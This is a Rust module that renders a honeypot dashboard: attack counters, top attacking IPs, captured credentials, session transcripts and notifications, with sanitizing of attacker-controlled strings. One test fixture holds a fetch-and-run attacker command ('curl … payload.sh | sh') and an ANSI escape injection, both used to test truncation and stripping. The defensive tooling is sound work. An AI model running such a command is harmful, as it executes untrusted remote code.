// ── View renderers ──
//
// Pure mappings from one widget's data to what the front-end draws. Every
// attacker-controlled string leaves here truncated and stripped of control
// characters; the HTML report escapes on top of that. Each widget has its
// own empty and error wording so an operator can tell "nothing happened"
// from "could not ask".

use decoyscope_api::{Notification, NotificationPage, NotificationType, Stats, SystemStatus};
use tracing::warn;

use crate::control::ControlAvailability;
use crate::detail::SessionView;
use crate::pagination::LogView;
use crate::state::{DashboardState, Widget};
use crate::text::{cell, sanitize_terminal};

pub const USER_WIDTH: usize = 15;
pub const PASS_WIDTH: usize = 15;
pub const COMMAND_WIDTH: usize = 20;
pub const CREDENTIAL_PART_WIDTH: usize = 12;

/// Placeholder shown while a data set has never loaded.
pub const LOADING: &str = "Loading...";

// ── Shared shape ─────────────────────────────────────────────────────

/// Rows of a list widget, or why there are none.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Section<T> {
    Loading,
    Empty(&'static str),
    Failed(&'static str),
    Rows(Vec<T>),
}

impl<T> Section<T> {
    pub fn rows(&self) -> &[T] {
        match self {
            Self::Rows(rows) => rows,
            _ => &[],
        }
    }

    /// Text to show instead of rows, if any.
    pub fn placeholder(&self) -> Option<&'static str> {
        match self {
            Self::Loading => Some(LOADING),
            Self::Empty(msg) | Self::Failed(msg) => Some(*msg),
            Self::Rows(_) => None,
        }
    }
}

fn section<T, U>(
    widget: &Widget<T>,
    empty: &'static str,
    failed: &'static str,
    rows: impl FnOnce(&T) -> Vec<U>,
) -> Section<U> {
    match widget {
        Widget::Loading => Section::Loading,
        Widget::Failed(_) => Section::Failed(failed),
        Widget::Ready(data) => {
            let rows = rows(data);
            if rows.is_empty() {
                Section::Empty(empty)
            } else {
                Section::Rows(rows)
            }
        }
    }
}

// ── Status ───────────────────────────────────────────────────────────

#[derive(Debug, Clone, Copy, PartialEq, Eq, strum::Display)]
pub enum ServiceState {
    Online,
    Offline,
    #[strum(to_string = "Connection error")]
    Error,
    Unknown,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct StatusIndicator {
    pub state: ServiceState,
    pub subtitle: &'static str,
    pub controls: ControlAvailability,
}

pub fn status_indicator(state: &DashboardState) -> StatusIndicator {
    let (service, subtitle) = match &state.status {
        Widget::Ready(SystemStatus { running: true }) => (ServiceState::Online, "Active"),
        Widget::Ready(SystemStatus { running: false }) => (ServiceState::Offline, "Stopped"),
        Widget::Failed(_) => (ServiceState::Error, "Unreachable"),
        Widget::Loading => (ServiceState::Unknown, LOADING),
    };
    StatusIndicator {
        state: service,
        subtitle,
        controls: state.controls(),
    }
}

// ── Counters ─────────────────────────────────────────────────────────

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Counter {
    pub label: &'static str,
    pub value: String,
}

fn counter_value<T>(widget: &Widget<T>, value: impl FnOnce(&T) -> u64) -> String {
    match widget {
        Widget::Ready(v) => value(v).to_string(),
        Widget::Failed(_) => "Error".to_owned(),
        Widget::Loading => "-".to_owned(),
    }
}

/// Total, SSH, Telnet, and unique-IP counters. Values are shown verbatim;
/// a stats failure marks its three counters, a unique-IP failure only its own.
pub fn counters(state: &DashboardState) -> [Counter; 4] {
    [
        Counter {
            label: "Total attacks",
            value: counter_value(&state.stats, |s| s.total_logs),
        },
        Counter {
            label: "SSH",
            value: counter_value(&state.stats, |s| s.ssh_logs),
        },
        Counter {
            label: "Telnet",
            value: counter_value(&state.stats, |s| s.telnet_logs),
        },
        Counter {
            label: "Unique IPs",
            value: counter_value(&state.unique_ips, |u| u.unique_ips_count),
        },
    ]
}

// ── Ranked lists ─────────────────────────────────────────────────────

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RankedRow {
    pub rank: usize,
    pub key: String,
    pub count: u64,
    pub last_seen: Option<String>,
}

/// Top attacking IPs in server order.
pub fn top_ips(state: &DashboardState) -> Section<RankedRow> {
    section(
        &state.top_ips,
        "No attacks recorded yet",
        "Error loading top IPs",
        |top| {
            top.top_ips
                .iter()
                .enumerate()
                .map(|(i, item)| RankedRow {
                    rank: i + 1,
                    key: sanitize_terminal(&item.ip),
                    count: item.count,
                    last_seen: item.last_attack.as_ref().map(ToString::to_string),
                })
                .collect()
        },
    )
}

/// Top credential pairs in server order, each part truncated.
pub fn top_credentials(state: &DashboardState) -> Section<RankedRow> {
    section(
        &state.top_credentials,
        "No credentials captured yet",
        "Error loading credentials",
        |top| {
            top.top_credentials
                .iter()
                .enumerate()
                .map(|(i, item)| RankedRow {
                    rank: i + 1,
                    key: format!(
                        "{} / {}",
                        cell(&item.username, CREDENTIAL_PART_WIDTH),
                        cell(&item.password, CREDENTIAL_PART_WIDTH)
                    ),
                    count: item.count,
                    last_seen: None,
                })
                .collect()
        },
    )
}

// ── Log table ────────────────────────────────────────────────────────

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LogRow {
    pub id: String,
    pub timestamp: String,
    pub source_ip: String,
    pub protocol: String,
    pub username: String,
    pub password: String,
    pub last_command: String,
    pub command_count: usize,
}

pub const LOGS_EMPTY: &str = "No intrusion records";
pub const LOGS_FILTERED_EMPTY: &str = "No entries match the filters";

/// Current page after the client-side filters.
pub fn log_table(state: &DashboardState) -> Section<LogRow> {
    let view = &state.log_view;
    match &state.logs {
        Widget::Loading => Section::Loading,
        Widget::Failed(_) => Section::Failed("Error loading logs"),
        Widget::Ready(page) if page.logs.is_empty() => Section::Empty(LOGS_EMPTY),
        Widget::Ready(page) => {
            let rows: Vec<LogRow> = view
                .apply_filters(&page.logs)
                .into_iter()
                .map(|log| LogRow {
                    id: log.id.clone(),
                    timestamp: log
                        .timestamp
                        .as_ref()
                        .map_or_else(|| "-".to_owned(), |t| sanitize_terminal(&t.to_string())),
                    source_ip: sanitize_terminal(&log.source_ip),
                    protocol: sanitize_terminal(log.protocol.as_str()),
                    username: log
                        .username
                        .as_deref()
                        .map_or_else(|| "-".to_owned(), |u| cell(u, USER_WIDTH)),
                    password: log
                        .password
                        .as_deref()
                        .map_or_else(|| "-".to_owned(), |p| cell(p, PASS_WIDTH)),
                    last_command: log
                        .last_command()
                        .map_or_else(|| "-".to_owned(), |c| cell(c, COMMAND_WIDTH)),
                    command_count: log.transcript().len(),
                })
                .collect();
            if rows.is_empty() {
                Section::Empty(LOGS_FILTERED_EMPTY)
            } else {
                Section::Rows(rows)
            }
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PageFooter {
    pub label: String,
    pub can_prev: bool,
    pub can_next: bool,
}

pub fn log_footer(view: &LogView) -> PageFooter {
    PageFooter {
        label: view.label(),
        can_prev: view.can_go_back(),
        can_next: view.can_go_forward(),
    }
}

// ── Notifications ────────────────────────────────────────────────────

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NotificationItem {
    pub id: String,
    pub kind: NotificationType,
    pub icon: &'static str,
    pub category: String,
    pub title: String,
    pub message: String,
    pub timestamp: String,
    pub source: Option<String>,
    pub read: bool,
    pub high_priority: bool,
    pub critical: bool,
}

pub fn notification_icon(kind: NotificationType) -> &'static str {
    match kind {
        NotificationType::Error => "✖",
        NotificationType::Warning => "⚠",
        NotificationType::Success => "✔",
        NotificationType::Alert => "🚨",
        NotificationType::Info | NotificationType::Other => "ℹ",
    }
}

fn notification_item(n: &Notification) -> NotificationItem {
    let source = match (&n.source_ip, &n.protocol) {
        (Some(ip), Some(proto)) => Some(format!("{ip} ({proto})")),
        (Some(ip), None) => Some(ip.clone()),
        _ => None,
    };
    NotificationItem {
        id: n.id.clone(),
        kind: n.kind,
        icon: notification_icon(n.kind),
        category: sanitize_terminal(&n.category),
        title: sanitize_terminal(&n.title),
        message: sanitize_terminal(&n.message),
        timestamp: n
            .timestamp
            .as_ref()
            .map(ToString::to_string)
            .unwrap_or_default(),
        source: source.as_deref().map(sanitize_terminal),
        read: n.read,
        high_priority: n.high_priority(),
        critical: n.critical(),
    }
}

pub fn unread_feed(state: &DashboardState) -> Section<NotificationItem> {
    section(
        &state.unread,
        "No unread notifications",
        "Error loading notifications",
        |items| items.iter().map(notification_item).collect(),
    )
}

pub fn history(state: &DashboardState) -> Section<NotificationItem> {
    section(
        &state.history,
        "No notifications found",
        "Error loading notification history",
        |page: &NotificationPage| page.notifications.iter().map(notification_item).collect(),
    )
}

// ── Charts ───────────────────────────────────────────────────────────

#[derive(Debug, Clone, PartialEq)]
pub struct ProtocolShare {
    pub ssh: u64,
    pub telnet: u64,
    pub ssh_pct: f64,
    pub telnet_pct: f64,
}

#[allow(clippy::cast_precision_loss, clippy::as_conversions)]
fn share(stats: &Stats) -> Vec<ProtocolShare> {
    let total = stats.ssh_logs.saturating_add(stats.telnet_logs);
    if total == 0 {
        return Vec::new();
    }
    let pct = |n: u64| n as f64 * 100.0 / total as f64;
    vec![ProtocolShare {
        ssh: stats.ssh_logs,
        telnet: stats.telnet_logs,
        ssh_pct: pct(stats.ssh_logs),
        telnet_pct: pct(stats.telnet_logs),
    }]
}

/// SSH versus Telnet share. Empty when neither protocol has traffic.
pub fn protocol_chart(state: &DashboardState) -> Section<ProtocolShare> {
    section(
        &state.protocol_chart,
        "No protocol data yet",
        "Error loading protocol chart",
        share,
    )
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TimelinePoint {
    pub label: String,
    pub count: u64,
}

/// Hourly buckets. Mismatched arrays are cut to the shorter length.
pub fn timeline(state: &DashboardState) -> Section<TimelinePoint> {
    section(
        &state.timeline,
        "No activity in the timeline",
        "Error loading timeline",
        |t| {
            if t.hours.len() != t.counts.len() {
                warn!(
                    hours = t.hours.len(),
                    counts = t.counts.len(),
                    "timeline arrays differ in length; truncating"
                );
            }
            t.hours
                .iter()
                .zip(&t.counts)
                .map(|(label, count)| TimelinePoint {
                    label: sanitize_terminal(label),
                    count: *count,
                })
                .collect()
        },
    )
}

// ── Session detail ───────────────────────────────────────────────────

pub const NO_COMMANDS: &str = "No commands executed in this session";

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DetailHeader {
    pub source_ip: String,
    pub protocol: String,
    pub session_id: String,
    pub command_count: usize,
    pub started: String,
    pub credentials: String,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TranscriptLine {
    pub timestamp: String,
    pub command: String,
}

pub fn detail_header(view: &SessionView) -> DetailHeader {
    DetailHeader {
        source_ip: sanitize_terminal(&view.source_ip),
        protocol: sanitize_terminal(view.protocol.as_str()),
        session_id: view
            .session_id
            .as_deref()
            .map_or_else(|| "-".to_owned(), sanitize_terminal),
        command_count: view.command_count(),
        started: view
            .timestamp
            .as_ref()
            .map_or_else(|| "-".to_owned(), ToString::to_string),
        credentials: format!(
            "{} / {}",
            sanitize_terminal(view.username.as_deref().unwrap_or("-")),
            sanitize_terminal(view.password.as_deref().unwrap_or("-"))
        ),
    }
}

/// Full transcript, oldest first. Commands are not truncated here.
pub fn transcript(view: &SessionView) -> Section<TranscriptLine> {
    if view.transcript.is_empty() {
        return Section::Empty(NO_COMMANDS);
    }
    Section::Rows(
        view.transcript
            .iter()
            .map(|c| TranscriptLine {
                timestamp: c
                    .timestamp
                    .as_ref()
                    .map_or_else(|| "-".to_owned(), ToString::to_string),
                command: sanitize_terminal(&c.command),
            })
            .collect(),
    )
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::config::ConsoleConfig;
    use decoyscope_api::{LogPage, Timeline, TopCredential, TopCredentials, TopIp, TopIps, UniqueIps};
    use pretty_assertions::assert_eq;
    use serde_json::json;

    fn state() -> DashboardState {
        DashboardState::new(&ConsoleConfig::default())
    }

    #[test]
    fn counters_show_values_verbatim() {
        let mut s = state();
        s.stats = Widget::Ready(Stats {
            total_logs: 42,
            ssh_logs: 30,
            telnet_logs: 12,
        });
        s.unique_ips = Widget::Ready(UniqueIps {
            unique_ips_count: 7,
        });
        let values: Vec<_> = counters(&s).into_iter().map(|c| c.value).collect();
        assert_eq!(values, vec!["42", "30", "12", "7"]);
    }

    #[test]
    fn stats_failure_marks_three_counters_only() {
        let mut s = state();
        s.stats = Widget::Failed("HTTP 500".into());
        s.unique_ips = Widget::Ready(UniqueIps {
            unique_ips_count: 3,
        });
        let values: Vec<_> = counters(&s).into_iter().map(|c| c.value).collect();
        assert_eq!(values, vec!["Error", "Error", "Error", "3"]);
    }

    #[test]
    fn stopped_status_renders_offline() {
        let mut s = state();
        s.status = Widget::Ready(SystemStatus { running: false });
        let indicator = status_indicator(&s);
        assert_eq!(indicator.state, ServiceState::Offline);
        assert!(indicator.controls.start);
        assert!(!indicator.controls.stop);
    }

    #[test]
    fn ranked_lists_keep_server_order() {
        let mut s = state();
        s.top_ips = Widget::Ready(TopIps {
            top_ips: vec![
                TopIp {
                    ip: "10.0.0.2".into(),
                    count: 1,
                    last_attack: None,
                },
                TopIp {
                    ip: "10.0.0.1".into(),
                    count: 9,
                    last_attack: None,
                },
            ],
        });
        let keys: Vec<_> = top_ips(&s).rows().iter().map(|r| r.key.clone()).collect();
        assert_eq!(keys, vec!["10.0.0.2", "10.0.0.1"]);
    }

    #[test]
    fn credential_parts_are_truncated() {
        let mut s = state();
        s.top_credentials = Widget::Ready(TopCredentials {
            top_credentials: vec![TopCredential {
                username: "administrator-account".into(),
                password: "123456".into(),
                count: 5,
            }],
        });
        assert_eq!(
            top_credentials(&s).rows()[0].key,
            "administrato... / 123456"
        );
    }

    #[test]
    fn empty_and_error_placeholders_differ_per_widget() {
        let mut s = state();
        s.top_ips = Widget::Ready(TopIps::default());
        s.top_credentials = Widget::Ready(TopCredentials::default());
        s.timeline = Widget::Failed("boom".into());
        s.protocol_chart = Widget::Ready(Stats::default());
        let empties = [
            top_ips(&s).placeholder(),
            top_credentials(&s).placeholder(),
            protocol_chart(&s).placeholder(),
        ];
        assert_eq!(
            empties,
            [
                Some("No attacks recorded yet"),
                Some("No credentials captured yet"),
                Some("No protocol data yet"),
            ]
        );
        assert_eq!(timeline(&s).placeholder(), Some("Error loading timeline"));
    }

    #[test]
    fn log_rows_truncate_and_strip() {
        let mut s = state();
        s.logs = Widget::Ready(LogPage {
            logs: vec![
                serde_json::from_value(json!({
                    "id": "l1",
                    "sourceIp": "203.0.113.5",
                    "protocol": "SSH",
                    "username": "\u{1b}[31mroot-with-a-long-name",
                    "password": "pw",
                    "commands": [{"command": "curl http://198.51.100.1/payload.sh | sh"}]
                }))
                .unwrap(),
            ],
            total_pages: Some(1),
        });
        let section = log_table(&s);
        let row = &section.rows()[0];
        assert_eq!(row.username, "[31mroot-with-...");
        assert_eq!(row.last_command, "curl http://198.51.1...");
        assert_eq!(row.command_count, 1);
    }

    #[test]
    fn filtered_out_page_has_its_own_placeholder() {
        let mut s = state();
        s.logs = Widget::Ready(LogPage {
            logs: vec![serde_json::from_value(json!({"id": "l1", "protocol": "SSH"})).unwrap()],
            total_pages: Some(1),
        });
        s.log_view.set_ip_filter("192.0.2.");
        assert_eq!(log_table(&s).placeholder(), Some(LOGS_FILTERED_EMPTY));
        s.logs = Widget::Ready(LogPage::default());
        assert_eq!(log_table(&s).placeholder(), Some(LOGS_EMPTY));
    }

    #[test]
    fn protocol_share_percentages() {
        let mut s = state();
        s.protocol_chart = Widget::Ready(Stats {
            total_logs: 4,
            ssh_logs: 3,
            telnet_logs: 1,
        });
        let section = protocol_chart(&s);
        let share = &section.rows()[0];
        assert!((share.ssh_pct - 75.0).abs() < f64::EPSILON);
        assert!((share.telnet_pct - 25.0).abs() < f64::EPSILON);
    }

    #[test]
    fn protocol_share_survives_counts_near_u64_max() {
        let mut s = state();
        s.protocol_chart = Widget::Ready(Stats {
            total_logs: u64::MAX,
            ssh_logs: u64::MAX,
            telnet_logs: 1,
        });
        let section = protocol_chart(&s);
        let share = &section.rows()[0];
        assert_eq!(share.ssh, u64::MAX);
        assert!(share.ssh_pct <= 100.0);
        assert!(share.telnet_pct >= 0.0);
    }

    #[test]
    fn timeline_zips_to_shorter_length() {
        let mut s = state();
        s.timeline = Widget::Ready(Timeline {
            hours: vec!["00:00".into(), "01:00".into(), "02:00".into()],
            counts: vec![5, 6],
        });
        assert_eq!(timeline(&s).rows().len(), 2);
    }

    #[test]
    fn empty_transcript_placeholder() {
        let mut s = state();
        s.last_page.replace(
            0,
            &LogPage {
                logs: vec![serde_json::from_value(json!({"id": "l9", "protocol": "TELNET"})).unwrap()],
                total_pages: Some(1),
            },
        );
        s.open_detail("l9").unwrap();
        let view = s.detail.view().unwrap();
        assert_eq!(transcript(view).placeholder(), Some(NO_COMMANDS));
        assert_eq!(detail_header(view).command_count, 0);
    }
}
